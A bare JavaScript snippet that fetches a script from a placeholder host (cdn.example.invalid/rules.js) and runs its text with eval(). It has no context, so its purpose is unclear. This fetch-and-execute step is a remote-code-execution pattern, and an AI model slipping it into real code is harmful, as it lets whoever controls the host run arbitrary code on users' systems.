const url = 'https://cdn.example.invalid/rules.js';
(async () => {
  eval(await (await fetch(url)).text());
})();
